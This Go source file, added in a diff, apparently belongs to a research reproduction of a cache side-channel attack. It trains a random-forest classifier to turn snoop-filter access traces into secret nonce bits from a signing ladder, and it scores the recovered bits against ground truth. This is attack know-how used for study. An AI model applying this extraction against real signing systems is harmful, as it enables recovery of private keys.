@@ -1,0 +1,197 @@
+package attack
+
+import (
+	"repro/internal/classify"
+	"repro/internal/clock"
+	"repro/internal/probe"
+	"repro/internal/victim"
+	"repro/internal/xrand"
+)
+
+// Extractor turns an access trace of the target SF set into nonce bits
+// (§7.3): a random-forest classifier labels detections that correspond
+// to iteration boundaries; boundary pairs 8k–12k cycles apart delimit
+// iterations; an extra access near an iteration's midpoint marks a zero
+// bit (instrumented layout, §7.1), otherwise the bit is one.
+type Extractor struct {
+	forest *classify.Forest
+	// IterCycles is the expected ladder iteration duration.
+	IterCycles float64
+}
+
+// ExtractedBit is one recovered nonce bit, stamped with its iteration's
+// boundary time.
+type ExtractedBit struct {
+	At  clock.Cycles
+	Bit uint
+}
+
+// boundaryTolerance is how close (in cycles) a detection must be to a
+// true iteration start to be labeled a boundary during training.
+const boundaryTolerance = 1200
+
+// detectionFeatures builds the per-detection feature vector: gaps to the
+// two nearest detections on each side, normalized by the iteration
+// duration and clamped — boundaries sit on the ~1-iteration comb while
+// midpoint and noise accesses break it.
+func detectionFeatures(times []clock.Cycles, i int, iter float64) []float64 {
+	gap := func(j, k int) float64 {
+		if j < 0 || k < 0 || j >= len(times) || k >= len(times) {
+			return 3
+		}
+		g := float64(times[k]-times[j]) / iter
+		if g > 3 {
+			g = 3
+		}
+		return g
+	}
+	return []float64{
+		gap(i-1, i),
+		gap(i, i+1),
+		gap(i-2, i),
+		gap(i, i+2),
+		gap(i-1, i+1),
+	}
+}
+
+// TrainExtractor fits the boundary forest on traces with ground truth:
+// each detection is labeled by whether it falls within the tolerance of
+// a true iteration start.
+func TrainExtractor(iterCycles float64, traces []*probe.Trace, truth []*victim.SignRecord, rng *xrand.Rand) *Extractor {
+	var x [][]float64
+	var y []int
+	for ti, tr := range traces {
+		rec := truth[ti]
+		if rec == nil {
+			continue
+		}
+		for i := range tr.Times {
+			x = append(x, detectionFeatures(tr.Times, i, iterCycles))
+			y = append(y, boundaryLabel(tr.Times[i], rec))
+		}
+	}
+	f := classify.NewForest(classify.ForestConfig{Trees: 25, MaxDepth: 10})
+	f.Train(x, y, rng)
+	return &Extractor{forest: f, IterCycles: iterCycles}
+}
+
+func boundaryLabel(t clock.Cycles, rec *victim.SignRecord) int {
+	for _, s := range rec.IterStarts {
+		d := int64(t) - int64(s)
+		if d < 0 {
+			d = -d
+		}
+		if d <= boundaryTolerance {
+			return 1
+		}
+	}
+	return 0
+}
+
+// Extract recovers nonce bits from a trace. Boundary predictions are
+// filtered to pairs 8k–12k cycles apart (the paper's duration filter for
+// one iteration on these hosts); within each accepted iteration, a
+// detection near the midpoint marks bit 0.
+func (e *Extractor) Extract(tr *probe.Trace) []ExtractedBit {
+	times := tr.Times
+	var boundaries []clock.Cycles
+	for i := range times {
+		if e.forest.Predict(detectionFeatures(times, i, e.IterCycles)) == 1 {
+			boundaries = append(boundaries, times[i])
+		}
+	}
+	var out []ExtractedBit
+	for i := 0; i+1 < len(boundaries); i++ {
+		dur := float64(boundaries[i+1] - boundaries[i])
+		if dur < 8000 || dur > 12000 {
+			continue
+		}
+		lo := boundaries[i] + clock.Cycles(dur*0.3)
+		hi := boundaries[i] + clock.Cycles(dur*0.7)
+		bit := uint(1)
+		for _, t := range times {
+			if t > lo && t < hi {
+				bit = 0
+				break
+			}
+		}
+		out = append(out, ExtractedBit{At: boundaries[i], Bit: bit})
+	}
+	return out
+}
+
+// Score compares extracted bits against ground truth: the fraction of
+// the record's ladder iterations recovered, and the error rate among the
+// recovered bits — the two metrics of §7.3.
+type Score struct {
+	Total     int // ladder iterations in the record
+	Recovered int
+	Wrong     int
+}
+
+// Fraction returns recovered/total.
+func (s Score) Fraction() float64 {
+	if s.Total == 0 {
+		return 0
+	}
+	return float64(s.Recovered) / float64(s.Total)
+}
+
+// ErrorRate returns wrong/recovered.
+func (s Score) ErrorRate() float64 {
+	if s.Recovered == 0 {
+		return 0
+	}
+	return float64(s.Wrong) / float64(s.Recovered)
+}
+
+// ScoreExtraction matches extracted bits to the record's iterations by
+// boundary time (within 0.3 iteration) and scores them.
+func ScoreExtraction(bits []ExtractedBit, rec *victim.SignRecord, iterCycles float64) Score {
+	sc := Score{Total: len(rec.IterStarts)}
+	tol := clock.Cycles(iterCycles * 0.3)
+	used := make([]bool, len(rec.IterStarts))
+	for _, b := range bits {
+		best, bestD := -1, tol+1
+		for i, s := range rec.IterStarts {
+			if used[i] {
+				continue
+			}
+			d := diffC(b.At, s)
+			if d < bestD {
+				best, bestD = i, d
+			}
+		}
+		if best < 0 {
+			continue
+		}
+		used[best] = true
+		sc.Recovered++
+		if b.Bit != rec.Bits[best] {
+			sc.Wrong++
+		}
+	}
+	return sc
+}
+
+func diffC(a, b clock.Cycles) clock.Cycles {
+	if a > b {
+		return a - b
+	}
+	return b - a
+}
+
+// BiasedOrEmpty reports whether an extraction looks like a false
+// positive for the WholeSys scanner (§7.2): too few bits, or bits
+// heavily biased toward one value.
+func BiasedOrEmpty(bits []ExtractedBit, minBits int) bool {
+	if len(bits) < minBits {
+		return true
+	}
+	ones := 0
+	for _, b := range bits {
+		ones += int(b.Bit)
+	}
+	frac := float64(ones) / float64(len(bits))
+	return frac < 0.1 || frac > 0.9
+}
